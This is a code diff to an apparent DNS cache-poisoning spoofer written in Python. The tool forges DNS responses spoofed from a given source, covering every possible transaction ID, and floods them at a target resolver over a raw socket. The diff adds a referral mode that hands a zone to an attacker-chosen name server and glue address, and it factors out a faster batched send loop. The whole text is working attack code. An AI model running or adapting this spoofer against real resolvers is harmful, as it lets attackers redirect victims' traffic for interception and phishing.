@@ -27,12 +27,14 @@ import dns.rrset
 import scope
 
 
-def response(name: str, answer: str, authority: tuple[str, str, str] | None) -> bytes:
-    """The forged response's DNS message (ID 0), as wire."""
+def response(name: str, answer: str | None, authority: tuple[str, str, str] | None) -> bytes:
+    """The forged response's DNS message (ID 0), as wire: an authoritative answer, or without
+    ``answer`` a referral to ``authority`` (zone, its name server, the server's address)."""
     qname = dns.name.from_text(name)
     r = dns.message.make_response(dns.message.make_query(qname, "A"), recursion_available=False)
-    r.flags |= dns.flags.AA
-    r.answer.append(dns.rrset.from_text(qname, 3600, "IN", "A", answer))
+    if answer is not None:
+        r.flags |= dns.flags.AA
+        r.answer.append(dns.rrset.from_text(qname, 3600, "IN", "A", answer))
     if authority:
         zone, ns, glue = (dns.name.from_text(authority[0]), dns.name.from_text(authority[1]), authority[2])
         r.authority.append(dns.rrset.from_text(zone, 3600, "IN", "NS", ns.to_text()))
@@ -49,6 +51,23 @@ def packets(source: str, target: str, port: int, payload: bytes) -> list[bytes]:
     udp = struct.pack("!HHHH", 53, port, udp_len, 0)
     head, tail = ip + udp, payload[2:]
     return [head + struct.pack("!H", i) + tail for i in range(65536)]
+
+
+BATCH = 4096  # packets sent between two looks at the clock
+
+
+def raw_socket(target: str) -> socket.socket:
+    """A raw IPv4 socket connected to ``target`` (no address to parse per packet)."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sock.connect((target, 0))
+    return sock
+
+
+def blast(sock: socket.socket, wires: list[bytes], start: int, n: int) -> int:
+    """Send ``n`` of ``wires`` from index ``start`` on (wrapping), in a loop that runs in C."""
+    at = start % len(wires)
+    collections.deque(map(sock.send, (wires[at:at + n] + wires[:max(0, at + n - len(wires))])), maxlen=0)
+    return n
 
 
 def main(argv: list[str]) -> int:
@@ -74,14 +93,11 @@ def main(argv: list[str]) -> int:
         sys.exit("refused: the spoofer forges IPv4 packets; give IPv4 addresses")
     wires = packets(source, target, args.port, response(args.name, args.answer,
                                                         tuple(args.authority) if args.authority else None))
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    sock.connect((target, 0))  # no address to parse per packet
+    sock = raw_socket(target)
     sent, t0 = 0, time.monotonic()
     deadline = t0 + seconds
     while sent < limit and time.monotonic() < deadline:
-        at, n = sent % len(wires), min(4096, limit - sent)  # a batch of IDs in turn, then a look at the clock
-        collections.deque(map(sock.send, wires[at:at + n]), maxlen=0)  # the loop runs in C
-        sent += n
+        sent += blast(sock, wires, sent, min(BATCH, limit - sent))
     took = time.monotonic() - t0
     print(json.dumps({"sent": sent, "seconds": round(took, 3), "pps": round(sent / took) if took else 0}))
     return 0
